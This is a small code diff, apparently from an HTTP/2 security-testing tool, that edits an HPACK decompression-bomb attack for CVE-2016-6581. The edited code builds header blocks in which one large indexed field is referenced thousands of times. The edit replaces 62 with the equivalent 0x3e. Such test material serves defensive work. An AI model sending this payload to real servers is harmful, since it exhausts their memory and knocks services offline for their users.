@@ -17,7 +17,7 @@ pub(super) const HPACK: Attack = Attack::new(
     "header blocks of 16 KiB that decode to 45 MB: one field of 4 KB, indexed 12,000 times (CVE-2016-6581)",
     |stage| {
         // The first field of the dynamic table has the index 62.
-        let (field, references) = (indexed_literal(b"x-bomb", &[b'x'; 3_900]), vec![0x80 | 62; PAYLOAD_MAX]);
+        let (field, references) = (indexed_literal(b"x-bomb", &[b'x'; 3_900]), vec![0x80 | 0x3e; PAYLOAD_MAX]);
         bombs(stage, [field, references].concat())
     },
 );
